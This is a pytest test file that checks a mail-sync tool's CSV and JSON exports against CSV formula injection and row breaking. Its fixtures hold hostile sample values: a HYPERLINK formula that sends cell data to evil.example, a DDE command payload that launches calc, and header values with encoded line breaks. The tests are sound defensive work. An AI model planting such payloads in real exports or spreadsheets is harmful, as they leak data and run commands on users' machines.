"""Exports carry strangers' text (display names, subjects) as data, never as a formula
or a broken row: CSV cells that a spreadsheet would run are escaped (OWASP "CSV
Injection": a leading ``'``), line breaks stay inside quoted cells, JSON stays JSON.

End to end: a Maildir message from a hostile sender is synced into SQLite and
PostgreSQL, exported by ``syncd export`` in every format, and parsed back.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from syncd.cli import data  # noqa: F401  (registers `syncd export`)
from syncd.cli.app import app as cli
from syncd.cli.render import csv_cell
from syncd.runner import run_source
from tests.mailfactory import mail, put_maildir

ALICE = "alice@acme-robotics.com"
EVE = "eve@attacker.example"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0"
# a display name and a subject with line breaks, as encoded words (the only way a
# header can carry them): an attempt to start a new CSV row or a new header
BROKEN_NAME = "=?utf-8?q?Eve=0D=0A=3D1+1,=22x=22=0D=0AMallory?="
BROKEN_SUBJECT = "=?utf-8?q?Offer=0D=0A-2+3,=3Dcmd=0ABcc:_x@evil.example?="
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def config(make_app: Any, tmp_path: Path) -> Path:
    root = tmp_path / "mail"
    put_maildir(root, mail(EVE, [ALICE], names={EVE: HYPERLINK}, subject=SUBJECT,
                           body="+1 555 0100 call me\n", message_id="<e1@attacker.example>"))
    put_maildir(root, mail("mallory@attacker.example", [ALICE],
                           message_id="<e2@attacker.example>", body="-hello\n",
                           headers={"X-Ignored": "1"}).replace(
        b"From: mallory@attacker.example",
        f"From: {BROKEN_NAME} <mallory@attacker.example>".encode()).replace(
        b"Subject: Hello", f"Subject: {BROKEN_SUBJECT}".encode()))
    app = make_app([{"name": "mail", "kind": "maildir", "path": str(root), "owner": [ALICE],
                     "capture": {"visibility": "full"}}])
    result = run_source(app, app.config.source("mail"))
    assert result.status == "ok", result.error
    return tmp_path / "syncd.yaml"


def export(config: Path, kind: str, fmt: str) -> str:
    """The export written to a file (CliRunner's stdout turns CRLF into LF)."""
    target = config.parent / f"export.{kind}.{fmt}"
    result = CliRunner().invoke(cli, ["--config", str(config), "export", kind, "--format", fmt,
                                      "-o", str(target)])
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def test_export_to_stdout(config: Path) -> None:
    result = CliRunner().invoke(cli, ["--config", str(config), "export", "contacts",
                                      "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("id,full_name,")


@pytest.mark.parametrize("kind", ["contacts", "accounts", "interactions"])
def test_csv_export_escapes_formulas_and_keeps_rows_whole(config: Path, kind: str) -> None:
    jsonl = [json.loads(line) for line in export(config, kind, "jsonl").splitlines()]
    rows = list(csv.DictReader(io.StringIO(export(config, kind, "csv"), newline="")))
    assert len(rows) == len(jsonl) > 0  # no row split by a line break, none lost
    assert [int(row["id"]) for row in rows] == [record["id"] for record in jsonl]
    for row in rows:
        assert set(row) == set(jsonl[0])  # every row has exactly the header's columns
        for value in row.values():
            assert not value.startswith(FORMULA), (kind, value)


def test_hostile_values_survive_as_text(config: Path) -> None:
    contacts = {c["emails"][0]: c for c in map(json.loads,
                                                export(config, "contacts", "jsonl").splitlines())}
    assert contacts[EVE]["full_name"].startswith("=")  # the name cleaner kept the "="
    by_email = {row["emails"]: row for row in csv.DictReader(io.StringIO(
        export(config, "contacts", "csv"), newline=""))}
    assert by_email[EVE]["full_name"] == "'" + contacts[EVE]["full_name"]

    interactions = [json.loads(line) for line in export(config, "interactions",
                                                        "jsonl").splitlines()]
    subjects = {i["key"]: i["subject"] for i in interactions}
    assert subjects["e1@attacker.example"] == SUBJECT
    assert "\n" in subjects["e2@attacker.example"]  # the line break is data, in one record
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(
        export(config, "interactions", "csv"), newline=""))}
    assert rows["e1@attacker.example"]["subject"] == "'" + SUBJECT
    assert rows["e2@attacker.example"]["subject"] == subjects["e2@attacker.example"]

    array = json.loads(export(config, "interactions", "json"))
    assert [i["subject"] for i in array] == [i["subject"] for i in interactions]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1 555 0100", "'+1 555 0100"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"), ("Megan =1", "Megan =1"), ("", ""),
    (None, ""), ([{"email": "=x@y.example", "role": "to"}], "'=x@y.example:to"),
])
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell
